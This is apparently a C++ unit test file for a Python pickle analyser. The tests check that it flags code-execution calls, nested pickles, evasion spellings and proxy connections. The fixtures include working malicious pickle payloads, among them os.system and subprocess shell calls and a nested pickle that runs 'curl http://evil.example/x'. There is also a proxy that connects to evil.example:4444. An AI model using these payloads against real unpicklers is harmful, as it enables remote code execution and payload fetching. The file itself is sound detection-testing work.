// What calls mean beyond their name: functions in slots and tasks, arguments, states, constructions that hide, pickles
// within pickles (data/judged.py writes the pickles and says what each must give).
#include "dissectors/pickle/call_judge.h"

#include <gtest/gtest.h>

#include "dissectors/pickle/encoded_bytes.h"
#include "tests/unit/dissectors/truth.h"

namespace pickletap {
namespace {

using namespace std::string_literals;
using truth::Reading;

/// "code-execution os.system; evasion changes the protocol on the way"
std::string findings_of(const PickleReport& report) {
  std::string out;
  for (const PickleFinding& finding : report.findings) {
    if (!out.empty()) out += "; ";
    out += std::string(rule_name(finding.rule).substr(7)) + " ";
    out += finding.rule == PickleRule::kEvasion ? finding.reason : finding.callable;
  }
  return out;
}

TEST(CallJudge, EveryWayToACallIsToldAndHarmlessOnesAreNot) {
  for (const auto& row : truth::rows("judged.txt", '\t')) {
    const std::string pickle = truth::from_hex(row[1]);
    const Reading reading(pickle);
    EXPECT_EQ(findings_of(reading.report), row[2] == "-" ? "" : row[2]) << row[0] << "\n"
                                                                        << truth::describe(reading.report);
    const Reading bytewise(pickle, truth::random_cuts(pickle.size(), 7));
    EXPECT_EQ(truth::describe(bytewise.report), truth::describe(reading.report)) << row[0];
  }
}

TEST(CallJudge, SaysHowTheCallIsReached) {
  const struct {
    std::string pickle, how;
  } table[] = {
      {"cos\nsystem\n(S'id'\ntR.", "called by REDUCE"},
      {"(S'id'\nios\nsystem\n.", "called by INST"},
      {"cfunctools\nreduce\n(cos\nsystem\n(lp0\ntR.", "called by functools.reduce (REDUCE)"},
      {"c__builtin__\ngetattr\n(capp\ncore\nS'os.system'\ntR(S'id'\ntR.", "called by REDUCE, fetched by getattr"},
      {"(I0\nI0\ncos\nsystem\n(S'id'\nt(dt.", "called right after the load, as the function of a Pool task"},
      {"capp\nCONFIG\nS'debug'\nI01\ns.", "written into by SETITEM"},
      {"cos\nsystem\n.", "passed by reference, not called"},
      {"cantigravity\nx\n.", "by fetching it: the module is imported"},
  };
  for (const auto& row : table) {
    const Reading reading(row.pickle);
    ASSERT_FALSE(reading.report.findings.empty()) << row.pickle;
    EXPECT_EQ(reading.report.findings.front().how, row.how);
  }
}

TEST(CallJudge, SaysWhoLoadsWhatCPythonRefuses) {
  const Reading doubtful("\x80\x04\x95\xff\0\0\0\0\0\0\0cos\nsystem\n\x8c\x02id\x85R."s);
  EXPECT_EQ(doubtful.report.receivers, "Python 2.7 or the pure Python unpickler only");
  EXPECT_TRUE(doubtful.has(PickleRule::kCodeExecution));
  EXPECT_EQ(Reading("cos\nsystem\n(S'id'\ntR.").report.receivers, "");
  EXPECT_EQ(Reading("\x80\x04\x95\xff\0\0\0\0\0\0\0N"s).report.receivers, "");  // cut short: nobody
}

TEST(CallJudge, PicklesWithinStandInTheProgram) {
  const Reading reading("cpickle\nloads\n(S'cos\\nsystem\\n(S\"curl http://evil.example/x\"\\ntR.'\ntR.");
  EXPECT_NE(reading.report.program.find("# pickle within, depth 1:\n  os.system("), std::string::npos)
      << reading.report.program;
  EXPECT_EQ(reading.report.nested, 1U);
  ASSERT_EQ(reading.report.indicators.hosts.size(), 1U);
  EXPECT_EQ(reading.report.indicators.hosts.front(), "evil.example");
  EXPECT_EQ(reading.report.globals, std::vector<std::string>{"pickle.loads"});  // as CPython resolves them
  ASSERT_EQ(reading.report.findings.size(), 2U);
  EXPECT_EQ(reading.report.findings[1].how, "in a pickle within, depth 1: called by REDUCE");
}

// ListProxy of RebuildProxy with a Token ("ListProxy", address, "1"), kwds as given.
std::string proxy(const std::string& address, const std::string& kwds) {
  return "cmultiprocessing.managers\nRebuildProxy\n(cmultiprocessing.managers\nListProxy\n"
         "cmultiprocessing.managers\nToken\n(S'ListProxy'\n" +
         address + "S'1'\ntRS'pickle'\n" + kwds + "tR.";
}

TEST(CallJudge, TellsWhereAProxyConnects) {
  const Reading abroad(proxy("(S'evil.example'\nI4444\nt", "(d"));
  EXPECT_EQ(findings_of(abroad.report), "unknown-call multiprocessing.managers.RebuildProxy");
  EXPECT_EQ(abroad.report.indicators.hosts, std::vector<std::string>{"evil.example"});
  const Reading with_key(proxy("(S'evil.example'\nI4444\nt", "(dS'authkey'\nS'k'\ns"));
  EXPECT_EQ(findings_of(with_key.report), "code-execution multiprocessing.managers.RebuildProxy");
  EXPECT_EQ(with_key.report.indicators.hosts, std::vector<std::string>{"evil.example"});
  for (const std::string here : {"(S'127.0.0.1'\nI4444\nt", "(S'localhost'\nI4444\nt", "S'/tmp/listener'\n",
                                 "(S'/tmp/listener'\nI3\nt", "(S''\nI4444\nt"}) {
    EXPECT_EQ(findings_of(Reading(proxy(here, "(d")).report), "") << here;
  }
}

TEST(CallJudge, CommandsAreWhole) {
  const struct {
    std::string pickle, command;
  } table[] = {
      {"cos\nsystem\n(S'id'\ntR.", "id"},
      {"cos\npopen\n(S'id'\nS'r'\ntR.", "id"},
      {"csubprocess\nPopen\n((lS'/bin/sh'\naS'-c'\naS'id; ls'\natR.", "/bin/sh -c id; ls"},
      {"cos\nexecv\n(S'/bin/sh'\n(S'sh'\nS'-c'\nS'id'\nttR.", "sh -c id"},
      {"cos\nspawnv\n(I0\nS'/bin/sh'\n(S'-c'\nS'id'\nttR.", "/bin/sh -c id"},
      {"cos\nsystem\n(S'sh'\ntR.", "sh"},
      {"(I0\nI0\ncos\nsystem\n(S'id'\nt(dt.", "id"},
  };
  for (const auto& row : table) {
    EXPECT_EQ(Reading(row.pickle).report.indicators.commands, std::vector<std::string>{row.command}) << row.pickle;
  }
}

TEST(CallJudge, NamesAreOneLineAndReasonsAreSaid) {
  const Reading reading(
      "\x80\x04\x8c\x03"s
      "app\x8c\x0d"
      "f()\nos.system\x93)R.");
  EXPECT_EQ(reading.report.program, "app.f()\\nos.system()");
  for (const std::string pickle : {"capp\nf\n)R.", "cos\nsystem\n)R.", "cos\nsystem\n.", "c_io\nfoo\n)R."}) {
    const Reading one(pickle);
    ASSERT_FALSE(one.report.findings.empty()) << pickle;
    for (const auto& finding : one.report.findings) EXPECT_NE(finding.reason, "") << pickle;
  }
}

// A million instances: each finding once, and no list grows.
TEST(CallJudge, ManyInstancesOfAUnknownClassAreToldOnce) {
  std::string pickle = "\x80\x02]capp\nCls\nq\x00"s;
  for (int i = 0; i < 20000; ++i) pickle += "h\0)\x81}(U\x01xK\x01U\x06_valueK\x02ub0"s;
  const Reading reading(pickle + "0.");
  EXPECT_EQ(findings_of(reading.report), "unknown-call app.Cls");
  EXPECT_EQ(reading.report.calls_total, 20000U);
  EXPECT_LE(reading.report.calls.size(), PickleReport::kMaxCalls);
}

TEST(CallJudge, SpecialMethodsAreKnown) {
  for (const std::string_view name :
       {"__setstate__", "__reduce_ex__", "__class__", "__getattr__", "__eq__", "__del__", "__add__", "__str__"}) {
    EXPECT_TRUE(is_takeover_name(name)) << name;
  }
  for (const std::string_view name :
       {"", "_", "__", "__x__", "__orig_class__", "__module__", "__doc__", "_value", "target", "_target", "__zzz__"}) {
    EXPECT_FALSE(is_takeover_name(name)) << name;
  }
}

TEST(Evasion, UsualSpellingsArePicklers) {
  for (const std::string_view line : {"0", "-1", "12", "00", "01", "9223372036854775807"}) {
    EXPECT_TRUE(is_usual_integer(line, true)) << line;
  }
  for (const std::string_view line : {"", "-", "+1", "0x10", "010", " 1", "1 ", "1_0", "-0", "--1", "5L", "-01"}) {
    EXPECT_FALSE(is_usual_integer(line, true)) << line;
  }
  EXPECT_TRUE(is_usual_integer("12L", false));
  EXPECT_TRUE(is_usual_integer("12", false));
  EXPECT_FALSE(is_usual_integer("00", false));
  EXPECT_TRUE(is_usual_memo_index("0") && is_usual_memo_index("10"));
  EXPECT_FALSE(is_usual_memo_index("00") || is_usual_memo_index("-1") || is_usual_memo_index(""));
}

// Of Python's zlib.compress: one row a block type.
TEST(EncodedBytes, AreDecodedAsPythonDoes) {
  EXPECT_EQ(decode_base64("aGVsbG8="), "hello");
  EXPECT_EQ(decode_base64("aGVs\nbG8"), "hello");
  EXPECT_EQ(decode_base64("_-8="), "\xff\xef");
  EXPECT_EQ(decode_hex("68 65 6C6c6f"), "hello");
  EXPECT_FALSE(decode_hex("6"));
  EXPECT_FALSE(decode_hex("6g"));
  for (const auto& row : truth::rows("deflated.txt", '\t')) {
    const std::string packed = truth::from_hex(row[0]);
    const std::string plain = truth::from_hex(row[1]);
    ASSERT_EQ(inflate_zlib(packed, 1 << 20), plain);
    EXPECT_EQ(inflate_zlib(packed, plain.size() / 2), plain.substr(0, plain.size() / 2));
    for (size_t cut = 0; cut < packed.size(); ++cut) {  // and whatever is broken: no more than there is
      const auto part = inflate_zlib(packed.substr(0, cut), 1 << 20);
      EXPECT_TRUE(!part || plain.starts_with(*part)) << cut;
      std::string broken = packed;
      broken[cut] = static_cast<char>(broken[cut] ^ 0x55);
      const auto other = inflate_zlib(broken, 4096);
      EXPECT_TRUE(!other || other->size() <= 4096);
    }
  }
  EXPECT_FALSE(inflate_zlib("", 10));
  EXPECT_FALSE(inflate_zlib("no zlib stream", 10));
}

}  // namespace
}  // namespace pickletap
